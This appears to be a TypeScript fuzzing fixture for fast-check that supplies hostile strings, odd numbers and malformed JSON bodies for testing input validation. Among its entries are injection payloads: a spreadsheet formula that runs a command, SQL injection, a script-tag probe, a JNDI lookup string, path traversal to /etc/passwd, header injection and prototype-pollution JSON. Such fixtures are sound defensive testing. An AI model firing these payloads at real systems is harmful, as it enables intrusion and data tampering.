import fc from 'fast-check';

/** Texts that have broken other systems: scripts, marks, control characters, formulas, markup, names of prototypes. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31m',
  'Zeile\r\nX-Injected: 1',
  '\ud800',
  'x\udc00y',
  '\ufeffBOM',
  '\u202eevil\u202c',
  '\u200f\u05d0\u05d1\u05d2',
  'Öztürk-Łaskiewicz',
  'محمد عبد الله',
  'فرشته',
  'Олександра',
  'Ελένη',
  '王小明',
  'さくら',
  '김하늘',
  'ስላም',
  'नमस्ते',
  'ไทย',
  '👩🏽‍🚒👨‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0323'.repeat(40),
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '"; DROP TABLE events; --',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://example.org/a}',
  '../../etc/passwd',
  '%00',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  'Infinity',
  'null',
  '2015-02-29',
  '2026-13-01',
  '9999-12-31',
  '0000-00-00',
  '-000001-01-01',
  '2015-03-31T08:00:00Z',
  '24:00',
  '99:99',
  'a'.repeat(101),
  'ä'.repeat(5_000),
];

const hostileNumbers = [0, -0, -1, 0.5, 1e-7, 2 ** 31, 2 ** 53, 2 ** 53 + 2, 1e21, 1e308, -1e308, Number.MIN_VALUE];

const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
);

/** Any JSON value that is probably not what the field takes. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: text },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...hostileNumbers) },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], { a: {} }) },
  { weight: 1, arbitrary: fc.array(text, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.integer({ min: 2, max: 60 }).map(nested) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

export const hostileText = text;

/** Bodies that are no JSON object at all, or JSON that parsers have stumbled over. */
export const brokenBodies: readonly string[] = [
  '',
  ' ',
  '{',
  '{"a":}',
  '{"givenName": "A" "familyName": "B"}',
  "{'a': 1}",
  '[1,2',
  'null',
  'true',
  '0',
  '"text"',
  '[]',
  '[{}]',
  '{"a": NaN}',
  '{"a": 1e999}',
  '{"a": 01}',
  '{"a": "\\ud800"}',
  '{"a": "\\u0000"}',
  '\ufeff{}',
  '{"__proto__": {"polluted": true}}',
  '{"constructor": {"prototype": {"polluted": true}}}',
  '{"toString": 1, "hasOwnProperty": 2, "then": 3}',
  '{"a": 1, "a": 2}',
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  `{"a": ${'9'.repeat(20_000)}}`,
];

function nested(depth: number): unknown {
  return depth === 0 ? 'deep' : depth % 2 === 0 ? [nested(depth - 1)] : { a: nested(depth - 1) };
}
